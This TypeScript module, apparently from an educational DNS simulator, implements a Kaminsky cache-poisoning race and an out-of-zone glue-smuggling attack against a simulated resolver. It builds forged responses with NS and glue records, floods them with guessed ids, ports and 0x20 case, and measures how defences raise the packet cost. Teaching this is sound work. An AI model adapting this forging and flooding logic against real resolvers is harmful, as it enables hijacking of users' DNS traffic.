// Cache poisoning, raced for real. The attacker owns attacker.test (its server sees the id and
// port of every query the resolver sends it) and floods forged responses from the victim zone's
// server address at the resolver while its real query is out:
//   kaminsky    per window: probe (learn the resolver's last id and port), trigger a query for a
//               fresh name in the victim's zone, flood forged answers carrying an NS RRset and
//               glue that move the zone to the attacker — all in bailiwick, so only the id, the
//               port and the 0x20 case stand in the way;
//   out-of-zone the attacker's own server answers for its own zone and adds the victim's record
//               in the additional section: no forgery at all, stopped by the bailiwick check.
// The resolver judges each packet like any other (transport.ts); success is read off its answer.
import type * as Api from "./learner-api.ts";
import { encodeMessage, makeQuery, makeRecord, makeResponse } from "./message/index.ts";
import { DEFAULT_DEFENCES, type Internet } from "./internet.ts";
import { listen } from "./server.ts";
import { absolute, parent } from "./names.ts";

export const ATTACKER_ADDRESS = "203.0.113.66";
const ATTACKER_NS = "ns.attacker.test.";
const PORTS = 65536 - 1024;

interface Attacker {
  last: { id: number; port: number };
  /** In out-of-zone mode: the victim name slipped into every answer. */
  smuggle: string | null;
}

const attackers = new WeakMap<Internet, Attacker>();

function attackerOn(net: Internet): Attacker {
  const attacker = attackers.get(net);
  if (attacker) return attacker;
  const state: Attacker = { last: { id: 0, port: 0 }, smuggle: null };
  const server = net.addServer(ATTACKER_NS, ATTACKER_ADDRESS, 2, "attacker");
  // Whatever it is asked, it answers with its own address (and, to smuggle, the victim's too).
  listen(net.network, server, (query, packet) => {
    state.last = { id: query.id, port: packet.src.port };
    const q = query.question[0];
    const answer = q?.type === "A" ? [makeRecord(q.name, "A", 86400, ATTACKER_ADDRESS)] : [];
    const additional = state.smuggle ? [makeRecord(state.smuggle, "A", 86400, ATTACKER_ADDRESS)] : [];
    return makeResponse(query, { aa: true, answer, additional });
  });
  const tld = net.zoneData("test.");
  tld.add("attacker.test.", "NS", 172800, ATTACKER_NS);
  tld.add(ATTACKER_NS, "A", 172800, ATTACKER_ADDRESS);
  net.traceServer(server);
  attackers.set(net, state);
  return state;
}

const letters = (name: string) => (name.match(/[a-z]/gi) ?? []).length;

export function expectedPackets(defences: Required<Api.Defences>, attack: "kaminsky" | "out-of-zone", triggerName: string): number {
  if (attack === "out-of-zone") return defences.bailiwick ? Infinity : 0;
  const ids = defences.randomIds ? 65536 : 1;
  const ports = defences.randomPorts ? PORTS : 1;
  const cases = defences.caseRandomization ? 2 ** letters(triggerName) : 1;
  return ids * ports * cases;
}

export async function poison(net: Internet, options: Api.PoisoningOptions): Promise<Api.PoisoningResult> {
  const defences = { ...DEFAULT_DEFENCES, ...options.defences };
  const attack = options.attack ?? "kaminsky";
  const victim = absolute(options.victim ?? "www.example.test");
  const zone = parent(victim);
  const perWindow = options.packetsPerWindow ?? 200;
  const budget = options.budget ?? 200_000;
  const attacker = attackerOn(net);
  const resolver = net.newResolver({ defences });
  const started = net.now();
  net.clock.touch();
  // The resolver already knows the victim's zone servers (a busy resolver always does).
  const ns = await resolver.resolve(zone, "NS");
  const first = ns.answer.find((r) => r.type === "NS");
  const server = net.target(first?.data.kind === "NS" ? first.data.target : zone);
  let forged = 0;
  let windows = 0;
  if (attack === "out-of-zone") {
    attacker.smuggle = victim;
    windows = 1;
    await resolver.resolve(`x.attacker.test.`, "A");
    attacker.smuggle = null;
  }
  while (attack === "kaminsky" && forged < budget && resolver.transport.acceptedForged === 0) {
    windows++;
    // 1. Probe: the attacker's own server sees the resolver's id and port.
    await resolver.resolve(`probe${windows}.attacker.test.`, "A");
    const seen = attacker.last;
    // 2. Trigger a query for a name no cache holds, and let it leave.
    const qname = `w${windows}.${zone}`;
    const trigger = resolver.resolve(qname, "A");
    await net.clock.sleep(0);
    // 3. Flood: one forged response, its id (and port, and case) guessed per packet.
    const template = encodeMessage(
      makeResponse(makeQuery(qname, "A", { id: 0, rd: false }), {
        aa: true,
        answer: [makeRecord(qname, "A", 86400, ATTACKER_ADDRESS)],
        authority: [makeRecord(zone, "NS", 86400, server.name)],
        additional: [makeRecord(server.name, "A", 86400, ATTACKER_ADDRESS)],
      }),
    );
    const n = Math.min(perWindow, budget - forged);
    for (let i = 0; i < n; i++) {
      const bytes = template.slice();
      const id = defences.randomIds ? Math.floor(net.prng.next() * 65536) : (seen.id + 1 + i) & 0xffff;
      bytes[0] = id >> 8;
      bytes[1] = id & 0xff;
      if (defences.caseRandomization) guessCase(bytes, () => net.prng.next());
      const port = defences.randomPorts ? 1024 + Math.floor(net.prng.next() * PORTS) : seen.port;
      net.network.send({ src: { address: server.address, port: 53 }, dst: { address: resolver.address, port }, bytes, forged: true });
    }
    forged += n;
    await trigger;
    net.env.trace?.({ kind: "race", window: windows, forged: n, won: resolver.transport.acceptedForged > 0, qname, traced: Math.min(n, 100) });
  }
  const answer = await resolver.resolve(victim, "A");
  const victimAnswer = answer.answer.flatMap((r) => (r.data.kind === "A" ? [r.data.address] : []));
  return {
    defences,
    poisoned: victimAnswer.includes(ATTACKER_ADDRESS),
    forgedPackets: forged,
    windows,
    expectedPackets: expectedPackets(defences, attack, `w1.${zone}`),
    victimAnswer,
    ms: net.now() - started,
  };
}

/** Random case for the letters of the question name (it starts at byte 12: labels, lengths first). */
function guessCase(bytes: Uint8Array, random: () => number): void {
  for (let i = 12; i < bytes.length && bytes[i] !== 0; i += bytes[i] + 1) {
    for (let j = i + 1; j <= i + bytes[i]; j++) {
      const c = bytes[j] | 0x20;
      if (c >= 0x61 && c <= 0x7a) bytes[j] = random() < 0.5 ? c & ~0x20 : c;
    }
  }
}
